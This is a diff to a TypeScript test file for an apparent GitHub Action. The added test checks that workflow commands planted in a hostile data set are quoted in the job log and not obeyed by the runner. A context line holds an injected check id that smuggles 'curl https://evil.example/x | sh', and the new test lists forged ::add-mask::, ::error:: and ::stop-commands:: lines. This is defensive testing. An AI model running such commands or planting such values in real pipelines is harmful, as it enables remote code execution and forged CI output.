@@ -16,6 +16,7 @@ import { startFileServer, type FileServer } from '../servers/file-server.js';
 import { startGitHubApiServer, type GitHubApiServer } from '../servers/github-api.js';
 import {
   commands,
+  commandsRead,
   ORT_VERSION,
   pullRequestEvent,
   pushEvent,
@@ -639,6 +640,34 @@ describe('a forged report (test/fixtures/hostile, make_forged_reports.py) in the
       /^::error::report .*forged\.json: not a complete report of version 2: gate\.checks: "MR9\\"; curl https:\/\/evil\.example\/x \| sh; echo \\"\\nMR1" is not a check id/,
     );
     expectNoStackTrace(result);
+  });
+});
+
+describe('the report in the log, where there is no job summary (older GitHub Enterprise, local runners)', () => {
+  it('the hostile data set’s workflow commands are quoted: the runner reads none of them', async () => {
+    for (const name of ['metacompress.yml', 'dataset.jsonl', 'teacher.jsonl', 'student.jsonl']) {
+      runner.write({ [`hostile/${name}`]: readFileSync(path.join(HOSTILE, name)) });
+    }
+    const result = await runner.run({
+      inputs: { config: 'hostile/metacompress.yml', comment: 'false' },
+      env: { GITHUB_STEP_SUMMARY: '' },
+    });
+    expect(result.code).toBe(1);
+    // The report is in the log, with the data set's code and its commands in it…
+    for (const line of [
+      '::add-mask::MR1',
+      '::error title=Security::forged annotation',
+      '##[error]old-style command',
+      '  ::stop-commands::deadbeef',
+    ]) {
+      expect(result.stdout.split('\n')).toContain(line);
+    }
+    // …and the runner reads only the action's own commands: one stop and resume per quoted text, the failures.
+    const read = commandsRead(result.stdout);
+    expect(read.filter((c) => !/^(stop-commands|error|debug):/.test(c))).toEqual([]);
+    expect(read.filter((c) => c.startsWith('stop-commands:')).length).toBeGreaterThan(0);
+    expect(read.filter((c) => c.startsWith('error:'))).toHaveLength(5);
+    expect(read.join('\n')).not.toMatch(/add-mask|Security|deadbeef|old-style/);
   });
 });
 
